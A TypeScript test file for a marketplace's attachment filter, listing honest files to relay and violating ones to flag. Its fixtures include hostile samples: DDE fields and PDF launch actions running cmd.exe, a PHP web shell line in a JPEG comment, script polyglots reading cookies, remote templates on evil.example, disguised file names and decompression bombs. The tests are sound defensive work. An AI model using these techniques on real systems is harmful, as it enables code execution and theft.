/** Labelled cases about files: an honest one arrives whole, of any other its writer hears why it did not. */

import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import type { Direction } from '../../src/core/direction.ts'
import { flate, objectStream, onePage, stream } from '../examine/documents/make-pdf.ts'
import { chunk, extension } from '../examine/pictures/make-pictures.ts'
import { planFor, rulesOf, type SentFile } from './judge-files.ts'
import {
  all,
  bmp,
  comment,
  compound,
  compoundWith,
  docx,
  field,
  film,
  gif,
  jpeg,
  jpegOf,
  latin,
  png,
  relationship,
  samsungTrailer,
  tiff,
  withGap,
  withOverlap,
  zip,
} from './made-files.ts'

const doc = readFileSync(new URL('../examine/documents/bicycle.doc', import.meta.url))
/** Its link leads to a shop, which is for another rule. */
const honestDoc = replaced(doc, 'https://shop.example/rad?nr=7', 'a link that was taken out....')
const pdf = (plus = {}) => onePage('Turn the knob twice', plus)
const archive = await zip({ 'setup.txt': 'hello '.repeat(30) })
const action = (dictionary: string) => pdf({ catalog: `/OpenAction ${dictionary}` })
const annotation = (dictionary: string) =>
  pdf({ page: '/Annots [9 0 R]', objects: { 9: `<< /Rect [1 1 9 9] ${dictionary} >>` } })
const attached = (name: string, content: string) =>
  pdf({
    catalog: `/Names << /EmbeddedFiles << /Names [(f) 9 0 R] >> >> /AF [9 0 R]`,
    objects: {
      9: `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 10 0 R >> >>`,
      10: flate('/Type /EmbeddedFile', content),
    },
  })

interface Case extends SentFile {
  readonly title: string
}

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'

const HONEST: readonly Case[] = [
  { title: 'a text', name: 'hours.txt', type: 'text/plain', content: latin('Monday to Friday\r\n') },
  {
    title: 'a text of Windows in two bytes a letter',
    name: 'hours.txt',
    content: all(Buffer.from([0xff, 0xfe]), Buffer.from('Mo – Fr\r\n', 'utf16le')),
  },
  {
    title: 'a text of Windows in Japan',
    name: 'hours.txt',
    type: 'text/plain',
    content: Buffer.from('82a891d282bf82ad82be82b382a20d0a', 'hex'),
  },
  {
    title: 'a text of Windows in Russia',
    name: 'hours.txt',
    type: 'text/plain',
    content: Buffer.from('d1efe0f1e8e1ee20e7e020e2eeeff0eef10d0a', 'hex'),
  },
  {
    title: 'a text that speaks of a beginning',
    name: 'plan.txt',
    type: 'text/plain',
    content: latin('begin 644 steps later\nand then go on\n'),
  },
  { title: 'a PDF', name: 'manual.pdf', type: 'application/pdf', content: pdf() },
  { title: 'a PDF of no declared type', name: 'Rechnung Nr.12.pdf', type: '', content: pdf() },
  { title: 'a PDF by an old name', name: 'scan.neu.pdf', type: 'application/x-pdf', content: pdf() },
  { title: 'a PDF declared as a download', name: 'label.pdf', type: 'application/x-download', content: pdf() },
  { title: 'a PDF converted from a letter', name: 'letter.docx.pdf', type: 'application/pdf', content: pdf() },
  {
    title: 'a PDF with a form',
    name: 'return.pdf',
    type: 'application/pdf',
    content: pdf({
      catalog: '/AcroForm << /Fields [9 0 R] >>',
      page: '/Annots [9 0 R]',
      objects: { 9: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (reason) /Rect [1 1 9 9] >>' },
    }),
  },
  {
    title: 'a PDF that opens at a page',
    name: 'a.pdf',
    type: 'application/pdf',
    content: action('[3 0 R /XYZ null null 0]'),
  },
  {
    title: 'a PDF that opens at a page by an action',
    name: 'a.pdf',
    content: action('<< /S /GoTo /D [3 0 R /Fit] >>'),
  },
  {
    title: 'a PDF with links between its pages',
    name: 'a.pdf',
    content: annotation('/Subtype /Link /Dest [3 0 R /Fit]'),
  },
  {
    title: 'a PDF with the marketplace’s address',
    name: 'a.pdf',
    content: annotation('/Subtype /Link /A << /S /URI /URI (https://www.marketplace.example/help) >>'),
  },
  {
    title: 'a PDF with the numbers of an invoice for machines',
    name: 'invoice.pdf',
    type: 'application/pdf',
    content: attached('factur-x.xml', '<?xml version="1.0"?><rsm:CrossIndustryInvoice/>'),
  },
  { title: 'a PDF with zeros behind its end', name: 'a.pdf', content: all(pdf(), Buffer.alloc(3000)) },
  { title: 'a Word document', name: 'v1.2.docx', type: DOCX, content: await docx() },
  { title: 'a Word document by the old type', name: 'letter.docx', type: 'application/msword', content: await docx() },
  {
    title: 'a Word document with the old ending',
    name: 'letter.doc',
    type: 'application/msword',
    content: await docx(),
  },
  {
    title: 'a Word document with a page number and a link to the marketplace',
    name: 'letter.docx',
    content: await docx({
      body: field('PAGE') + field('HYPER', 'LINK "https://marketplace.example/"'),
      relationships: relationship('hyperlink', 'https://marketplace.example/', 'External'),
    }),
  },
  {
    title: 'a Word document made with a template of the writer’s own',
    name: 'letter.docx',
    content: await docx({
      settings: relationship('attachedTemplate', 'file:///C:\\Users\\x\\Letter.dotx', 'External'),
    }),
  },
  { title: 'a Word document of the old kind', name: 'letter.doc', type: 'application/msword', content: honestDoc },
  { title: 'a photograph', name: 'IMG_1234.jpg', type: 'image/jpeg', content: jpeg() },
  { title: 'a photograph by the old type', name: 'IMG_1234.jpeg', type: 'image/pjpeg', content: jpeg() },
  { title: 'a photograph converted by a phone', name: 'IMG_1234.HEIC.jpg', type: 'image/jpeg', content: jpeg() },
  { title: 'a photograph with dots in its date', name: 'photo 2026.11.20.jpg', type: 'image/jpg', content: jpeg() },
  { title: 'a photograph named by a Mac', name: '\u200e\u2068WhatsApp photo\u2069.jpg', content: jpeg() },
  { title: 'a photograph by the path a browser gives', name: 'C:\\fakepath\\photo.jpg', content: jpeg() },
  { title: 'a photograph with a second one behind it', name: 'a.jpg', content: all(jpeg(), jpeg()) },
  {
    title: 'a photograph with filling and a gain map behind it',
    name: 'a.jpg',
    content: all(jpeg(), Buffer.alloc(700), jpeg(), Buffer.alloc(9)),
  },
  { title: 'a photograph that moves, of Google', name: 'PXL_20261120.jpg', content: all(jpeg(), film()) },
  {
    title: 'a photograph that moves, of Huawei',
    name: 'a.jpg',
    content: all(jpeg(), film(), latin('v2_f35 1000:1500    LIVE_4125736')),
  },
  { title: 'a photograph that moves, of Samsung', name: 'a.jpg', content: all(jpeg(), samsungTrailer(film())) },
  { title: 'a photograph of 200 million pixels', name: 'a.jpg', type: 'image/jpeg', content: jpegOf(16320, 12240) },
  { title: 'a PNG', name: 'screen.png', type: 'image/png', content: png() },
  { title: 'a PNG named as a JPEG', name: 'screen.jpg', type: 'image/jpeg', content: png() },
  {
    title: 'a PNG saved over a larger one',
    name: 'screen.png',
    content: all(png(), Buffer.alloc(4000, 3), chunk('IEND')),
  },
  { title: 'a GIF', name: 'turn.gif', type: 'image/gif', content: gif() },
  { title: 'a GIF with a comment', name: 'turn.gif', content: gif(extension(0xfe, latin('Made with a program'))) },
  { title: 'a TIFF', name: 'scan.tif', type: 'image/tiff', content: tiff() },
  { title: 'a TIFF with a directory that was written anew', name: 'scan.tiff', content: tiff(Buffer.alloc(900, 4)) },
  { title: 'a BMP', name: 'old.bmp', type: 'image/x-ms-bmp', content: bmp() },
  { title: 'a BMP filled up to a word', name: 'old.bmp', content: all(bmp(), Buffer.alloc(2)) },
  { title: 'a picture in the text without a name', name: '', type: 'image/png', content: png(), inline: true },
]

const VIOLATING: readonly (Case & { readonly rule: string })[] = [
  {
    title: 'something between the members of a document',
    name: 'a.docx',
    content: withGap(await docx(), Buffer.alloc(2000, 7)),
    rule: 'attachment.polyglot',
  },
  {
    title: 'members of a document that lie over each other',
    name: 'a.docx',
    content: withOverlap(await docx()),
    rule: 'attachment.bomb',
  },
  {
    title: 'an archive before the end of a PDF',
    name: 'a.pdf',
    content: all(pdf().subarray(0, -6), archive, latin('\n%%EOF\n')),
    rule: 'attachment.polyglot',
  },
  {
    title: 'an archive behind a PNG that says its places elsewhere',
    name: 'a.png',
    content: all(
      png(),
      latin('PK\x06\x07'),
      Buffer.alloc(16),
      latin('PK\x05\x06'),
      Buffer.alloc(8),
      Buffer.alloc(10, 0xff),
      Buffer.alloc(2),
    ),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a field of an old document that starts a program',
    name: 'a.doc',
    content: replaced(doc, 'HYPERLINK', 'DDEAUTO  '),
    rule: 'attachment.active',
  },
  { title: 'an archive', name: 'a.zip', type: 'application/zip', content: archive, rule: 'attachment.type' },
  {
    title: 'an archive named as a PDF',
    name: 'a.pdf',
    type: 'application/pdf',
    content: archive,
    rule: 'attachment.type',
  },
  { title: 'a program', name: 'a.exe', content: latin('MZ\x90\0\x03\0'), rule: 'attachment.type' },
  {
    title: 'a drawing of the web',
    name: 'a.svg',
    type: 'image/svg+xml',
    content: latin('<svg xmlns="x"/>'),
    rule: 'attachment.type',
  },
  {
    title: 'a web page named as a text',
    name: 'a.txt',
    type: 'text/plain',
    content: latin('<html><body>x</body></html>'),
    rule: 'attachment.type',
  },
  {
    title: 'a rich text named as a Word document',
    name: 'a.doc',
    type: 'application/msword',
    content: latin('{\\rtf1 hello}'),
    rule: 'attachment.type',
  },
  { title: 'a table', name: 'a.xls', content: compound({ Workbook: Buffer.alloc(600) }), rule: 'attachment.type' },
  {
    title: 'a table named as a Word document',
    name: 'a.doc',
    content: compound({ Workbook: Buffer.alloc(600) }),
    rule: 'attachment.type',
  },
  { title: 'a PDF after other bytes', name: 'a.pdf', content: all(latin('MZ\0\0'), pdf()), rule: 'attachment.type' },
  ...[
    'application/zip',
    'text/html',
    'image/svg+xml',
    'application/x-msdownload',
    'application/vnd.ms-excel',
    'application/javascript',
  ].map((type) => ({
    title: `a photograph declared as ${type}`,
    name: 'a.jpg',
    type,
    content: jpeg(),
    rule: 'attachment.type',
  })),
  {
    title: 'a program behind the ending of a document',
    name: 'invoice.pdf.exe',
    content: pdf(),
    rule: 'attachment.name',
  },
  {
    title: 'a document behind the ending of a program',
    name: 'invoice.exe.pdf',
    content: pdf(),
    rule: 'attachment.name',
  },
  {
    title: 'a name that is read backwards',
    name: 'invoice\u202efdp.exe.jpg',
    content: jpeg(),
    rule: 'attachment.name',
  },
  { title: 'a name reversed to a harmless one', name: 'photo\u202egpj.pdf', content: pdf(), rule: 'attachment.name' },
  { title: 'an invisible character in the ending', name: 'photo.j\u200bpg', content: jpeg(), rule: 'attachment.name' },
  { title: 'a zero in the name', name: 'photo.exe\0.jpg', content: jpeg(), rule: 'attachment.name' },
  { title: 'a dot at the end', name: 'photo.jpg.', content: jpeg(), rule: 'attachment.name' },
  {
    title: 'blanks before the ending',
    name: 'invoice.pdf                        .jpg',
    content: jpeg(),
    rule: 'attachment.name',
  },
  { title: 'a path that leads up', name: '..\\..\\Startup\\photo.jpg', content: jpeg(), rule: 'attachment.name' },
  { title: 'a path from the root', name: '/etc/cron.d/photo.jpg', content: jpeg(), rule: 'attachment.name' },
  { title: 'the name of a device', name: 'AUX.jpg', content: jpeg(), rule: 'attachment.name' },
  {
    title: 'a picture named as a PDF',
    name: 'label.pdf',
    type: 'application/pdf',
    content: png(),
    rule: 'attachment.name',
  },
  { title: 'a PDF named as a picture', name: 'label.jpg', type: 'image/jpeg', content: pdf(), rule: 'attachment.name' },
  {
    title: 'macros in a document',
    name: 'a.docx',
    type: DOCX,
    content: await docx({ members: { 'word/vbaProject.bin': latin('x') } }),
    rule: 'attachment.macros',
  },
  {
    title: 'macros under another name',
    name: 'a.docx',
    content: await docx({
      relationships:
        '<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"/>',
      members: { 'word/notes.bin': 'x' },
    }),
    rule: 'attachment.macros',
  },
  {
    title: 'a docm named docx',
    name: 'a.docx',
    content: await docx({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    rule: 'attachment.macros',
  },
  {
    title: 'macros in an old document',
    name: 'a.doc',
    content: compoundWith(doc, { 'Macros/VBA/dir': Buffer.alloc(90) }),
    rule: 'attachment.macros',
  },
  {
    title: 'a table in a document',
    name: 'a.docx',
    content: await docx({ members: { 'word/embeddings/sheet.bin': 'x' } }),
    rule: 'attachment.embedded',
  },
  {
    title: 'a program in a document',
    name: 'a.docx',
    content: await docx({ members: { 'word/media/image1.png': latin('MZ\x90\0') } }),
    rule: 'attachment.embedded',
  },
  {
    title: 'a member that the document does not know',
    name: 'a.docx',
    content: await docx({ members: { 'photos/notes.dat': 'something' } }),
    rule: 'attachment.embedded',
  },
  {
    title: 'a page of the web in a document',
    name: 'a.docx',
    content: await docx({ relationships: relationship('aFChunk', 'chunk.xml'), members: { 'word/chunk.xml': '<a/>' } }),
    rule: 'attachment.embedded',
  },
  {
    title: 'an object in an old document',
    name: 'a.doc',
    content: compoundWith(doc, { 'ObjectPool/_1/\x01Ole10Native': Buffer.alloc(90) }),
    rule: 'attachment.embedded',
  },
  {
    title: 'a control in a document',
    name: 'a.docx',
    content: await docx({ members: { 'word/activeX/activeX1.xml': '<ax/>' } }),
    rule: 'attachment.active',
  },
  {
    title: 'a field that starts a program',
    name: 'a.docx',
    content: await docx({ body: field(' DDE', 'AUTO c:\\\\cmd.exe "/k calc"') }),
    rule: 'attachment.active',
  },
  {
    title: 'such a field in one piece',
    name: 'a.docx',
    content: await docx({ body: '<w:fldSimple w:instr="DDE cmd"/>' }),
    rule: 'attachment.active',
  },
  {
    title: 'a field whose name another field writes',
    name: 'a.docx',
    content: await docx({
      body: `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
    }),
    rule: 'attachment.active',
  },
  {
    title: 'a template on the web',
    name: 'a.docx',
    content: await docx({ settings: relationship('attachedTemplate', 'https://evil.example/a.dotm', 'External') }),
    rule: 'attachment.external',
  },
  {
    title: 'a template on a server',
    name: 'a.docx',
    content: await docx({ settings: relationship('attachedTemplate', 'file://10.1.2.3/share/a.dotm', 'External') }),
    rule: 'attachment.external',
  },
  {
    title: 'an object on the web',
    name: 'a.docx',
    content: await docx({
      relationships: relationship(
        'oleObject',
        'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html',
        'External',
      ),
    }),
    rule: 'attachment.external',
  },
  {
    title: 'a picture on the web',
    name: 'a.docx',
    content: await docx({ relationships: relationship('image', 'https://evil.example/a.png', 'External') }),
    rule: 'attachment.external',
  },
  {
    title: 'an archive with the list of types of a document',
    name: 'a.docx',
    content: await zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<a/>', 'run.exe': latin('MZ') }),
    rule: 'attachment.embedded',
  },
  {
    title: 'nothing but the names of a document',
    name: 'a.docx',
    content: await zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<a/>' }),
    rule: 'attachment.unreadable',
  },
  {
    title: 'an archive behind a document',
    name: 'a.docx',
    content: all(await docx(), Buffer.alloc(300, 7)),
    rule: 'attachment.type',
  },
  {
    title: 'a document that grows',
    name: 'a.docx',
    content: await docx({ members: { 'word/x.xml': Buffer.alloc(3 << 20) } }),
    rule: 'attachment.bomb',
  },
  {
    title: 'a thousand members',
    name: 'a.docx',
    content: await docx({
      members: Object.fromEntries(Array.from({ length: 1001 }, (_, index) => [`word/${index}.xml`, '<a/>'])),
    }),
    rule: 'attachment.bomb',
  },
  {
    title: 'a document with a password',
    name: 'a.docx',
    type: DOCX,
    content: compound({ EncryptedPackage: Buffer.alloc(600), EncryptionInfo: Buffer.alloc(90) }),
    rule: 'attachment.unreadable',
  },
  { title: 'an old document with a password', name: 'a.doc', content: encrypted(doc), rule: 'attachment.unreadable' },
  {
    title: 'an archive behind an old document',
    name: 'a.doc',
    content: all(doc, Buffer.alloc(512), archive),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a script that runs when it is opened',
    name: 'a.pdf',
    content: action('<< /S /JavaScript /JS (app.alert(1)) >>'),
    rule: 'attachment.active',
  },
  {
    title: 'a script under a name in numbers',
    name: 'a.pdf',
    content: action('<< /S /J#61vaScript /#4a#53 (app.alert(1)) >>'),
    rule: 'attachment.active',
  },
  {
    title: 'a script packed into a stream of objects',
    name: 'a.pdf',
    content: pdf({
      catalog: '/OpenAction 20 0 R',
      objects: { 9: objectStream(20, ['<< /S /JavaScript /JS 21 0 R >>', '(app.alert(1))']) },
    }),
    rule: 'attachment.active',
  },
  {
    title: 'a website that opens by itself',
    name: 'a.pdf',
    content: action('<< /S /URI /URI (https://marketplace.example/) >>'),
    rule: 'attachment.active',
  },
  {
    title: 'an action of a page',
    name: 'a.pdf',
    content: pdf({ page: '/AA << /O << /S /Named /N /Print >> >>' }),
    rule: 'attachment.active',
  },
  ...[
    '/Launch /F (cmd.exe)',
    '/SubmitForm /F (https://evil.example/)',
    '/ImportData /F (a.fdf)',
    '/GoToR /F (a.pdf) /D [0 /Fit]',
    '/GoToE /T << >>',
  ].map((what) => ({
    title: `a link that is ${what.split(' ')[0]}`,
    name: 'a.pdf',
    content: annotation(`/Subtype /Link /A << /S ${what} >>`),
    rule: 'attachment.active',
  })),
  { title: 'a film', name: 'a.pdf', content: annotation('/Subtype /RichMedia'), rule: 'attachment.active' },
  {
    title: 'a form in XML',
    name: 'a.pdf',
    content: pdf({ catalog: '/AcroForm << /Fields [] /XFA 9 0 R >>', objects: { 9: flate('', '<xdp/>') } }),
    rule: 'attachment.active',
  },
  { title: 'a file in a PDF', name: 'a.pdf', content: attached('run.exe', 'MZ'), rule: 'attachment.embedded' },
  {
    title: 'a program by the name of an invoice',
    name: 'a.pdf',
    content: attached('factur-x.xml', 'MZ'),
    rule: 'attachment.embedded',
  },
  {
    title: 'a file as a comment',
    name: 'a.pdf',
    content: annotation('/Subtype /FileAttachment /FS << /F (a.txt) >>'),
    rule: 'attachment.embedded',
  },
  {
    title: 'a page from elsewhere',
    name: 'a.pdf',
    content: pdf({
      page: '/Resources << /XObject << /X 9 0 R >> >>',
      objects: { 9: stream('/Subtype /Form /BBox [0 0 9 9] /F (https://evil.example/x)', '') },
    }),
    rule: 'attachment.external',
  },
  {
    title: 'a PDF with a password',
    name: 'a.pdf',
    content: pdf({
      objects: { 9: '<< /Filter /Standard /V 2 /R 3 /O (o) /U (u) /P -4 >>' },
      trailer: '/Encrypt 9 0 R',
    }),
    rule: 'attachment.unreadable',
  },
  { title: 'a broken PDF', name: 'a.pdf', content: latin('%PDF-1.7\nnothing'), rule: 'attachment.unreadable' },
  {
    title: 'a PDF that grows',
    name: 'a.pdf',
    content: pdf({
      page: '/Resources << /XObject << /X 9 0 R >> >>',
      objects: { 9: flate('/Subtype /Form /BBox [0 0 9 9]', Buffer.alloc(40 << 20)) },
    }),
    rule: 'attachment.bomb',
  },
  {
    title: 'a picture without end in a PDF',
    name: 'a.pdf',
    content: pdf({
      page: '/Resources << /XObject << /X 9 0 R >> >>',
      objects: {
        9: stream(
          '/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /CCITTFaxDecode',
          'x',
        ),
      },
    }),
    rule: 'attachment.bomb',
  },
  { title: 'an archive behind a PDF', name: 'a.pdf', content: all(pdf(), archive), rule: 'attachment.polyglot' },
  {
    title: 'a page of the web before a PDF',
    name: 'a.pdf',
    content: Buffer.from(pdf().toString('latin1').replace('\n', '\n%<script>alert(1)</script>\n'), 'latin1'),
    rule: 'attachment.polyglot',
  },
  {
    title: 'an archive behind a JPEG',
    name: 'a.jpg',
    type: 'image/jpeg',
    content: all(jpeg(), archive),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a RAR archive behind a second picture',
    name: 'a.jpg',
    content: all(jpeg(), jpeg(), latin('Rar!\x1a\x07\x01\0')),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a 7z archive in a trailer of Samsung’s',
    name: 'a.jpg',
    content: all(jpeg(), samsungTrailer(all(latin('7z\xbc\xaf\x27\x1c'), Buffer.alloc(600, 1)))),
    rule: 'attachment.polyglot',
  },
  {
    title: 'unknown bytes behind a JPEG',
    name: 'a.jpg',
    content: all(jpeg(), Buffer.alloc(2000, 0x93)),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a page of the web in a comment',
    name: 'a.jpg',
    content: jpeg(comment('<html><script>alert(1)</script>')),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a program of servers in a comment',
    name: 'a.jpg',
    content: jpeg(comment('<?php system($_GET[0]);')),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a JPEG that is a script',
    name: 'a.jpg',
    content: jpeg(comment('x')).fill('/*', 4, 6),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a GIF that is a script',
    name: 'a.gif',
    content: all(latin('GIF89a/*'), gif().subarray(8), latin('*/=1;alert(1)')),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a script behind a GIF',
    name: 'a.gif',
    content: all(gif(), latin('=1;alert(document.cookie)')),
    rule: 'attachment.polyglot',
  },
  { title: 'an archive behind a PNG', name: 'a.png', content: all(png(), archive), rule: 'attachment.polyglot' },
  {
    title: 'a program behind a BMP',
    name: 'a.bmp',
    content: all(bmp(), latin('MZ\x90\0'), Buffer.alloc(600)),
    rule: 'attachment.polyglot',
  },
  {
    title: 'an archive between the parts of a TIFF',
    name: 'a.tif',
    content: tiff(all(latin('Rar!\x1a\x07\0'), Buffer.alloc(99, 7))),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a large hidden area of a TIFF',
    name: 'a.tif',
    content: tiff(Buffer.alloc(100_000, 0x91)),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a JPEG with something hidden in a document',
    name: 'a.docx',
    content: await docx({
      types: '<Default Extension="jpg" ContentType="image/jpeg"/>',
      members: { 'word/media/image1.jpg': all(jpeg(), latin('Rar!\x1a\x07\x01\0')) },
    }),
    rule: 'attachment.polyglot',
  },
  {
    title: 'a PNG of four thousand million pixels',
    name: 'a.png',
    content: png(65535, 65535),
    rule: 'attachment.bomb',
  },
  { title: 'a JPEG as large as there can be', name: 'a.jpg', content: jpegOf(65000, 65000), rule: 'attachment.bomb' },
  {
    title: 'a file packed into a text',
    name: 'a.txt',
    type: 'text/plain',
    content: latin('Hello\nbegin 644 a.exe\n#0V%T\n`\nend\n'),
    rule: 'attachment.embedded',
  },
  {
    title: 'the same in the newer way',
    name: 'a.txt',
    type: 'text/plain',
    content: latin('=ybegin line=128 size=9 name=a.exe\nabc\n'),
    rule: 'attachment.embedded',
  },
  {
    title: 'a website in a text',
    name: 'a.txt',
    type: 'text/plain',
    content: latin('See https://evil.example/x\n'),
    rule: 'link.website',
  },
  {
    title: 'a website in the wide letters of Windows in Japan, in a text of the West',
    name: 'a.txt',
    content: all(
      latin('Turn the knob of the lamp twice, as in the caf\xe9. See '.repeat(3)),
      Buffer.from('8297829782978144828582968289828c8144828582988281828d8290828c8285', 'hex'),
    ),
    rule: 'link.website',
  },
  {
    title: 'a website behind a comment of a PDF',
    name: 'a.pdf',
    content: annotation('/Subtype /Link /A << /S /URI /URI (https://evil.example/) >>'),
    rule: 'link.website',
  },
]

/** The same length, in one and in two bytes a letter. */
function replaced(bytes: Buffer, from: string, to: string): Buffer {
  const wide = (text: string) => Buffer.from(text, 'utf16le').toString('latin1')
  const text = bytes.toString('latin1').replaceAll(from, to).replaceAll(wide(from), wide(to))
  return Buffer.from(text, 'latin1')
}

function encrypted(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes)
  // The flags of the file information block, in the first sector that begins as one.
  const block = copy.indexOf(Buffer.from([0xec, 0xa5]), 512)
  copy.writeUInt16LE(copy.readUInt16LE(block + 10) | 0x0100, block + 10)
  return copy
}

const DIRECTIONS: readonly Direction[] = ['seller-to-buyer', 'buyer-to-seller']

describe('an honest file arrives', () => {
  for (const { title, ...file } of HONEST) {
    it(title, async () => {
      for (const direction of DIRECTIONS) {
        const plan = await planFor([file], direction)
        expect(rulesOf(plan), direction).toEqual([])
        expect(plan.disposition, direction).toEqual({ kind: 'relay' })
        expect(Buffer.from(plan.outgoing?.bytes ?? '').toString(), direction).not.toContain('file removed')
        expect(plan.notice, direction).toBeNull()
      }
    })
  }
})

describe('of a file that breaks the rules its writer hears why', () => {
  for (const { title, rule, ...file } of VIOLATING) {
    it(`${title}: ${rule}`, async () => {
      const seller = await planFor([file], 'seller-to-buyer')
      expect(rulesOf(seller)).toContain(rule)
      expect(seller.disposition).toEqual({ kind: 'discard' })
      expect(seller.notice).not.toBeNull()
      const buyer = await planFor([file], 'buyer-to-seller')
      expect(rulesOf(buyer)).toEqual(rulesOf(seller))
      expect(buyer.disposition).toEqual({ kind: 'relay' })
      const arrived = Buffer.from(buyer.outgoing?.bytes ?? '').toString()
      expect(arrived).toContain('Here it is.')
      expect(arrived).not.toMatch(/Content-Disposition/i)
      expect(buyer.notice === null).toBe(rule === 'link.website')
    })
  }
})
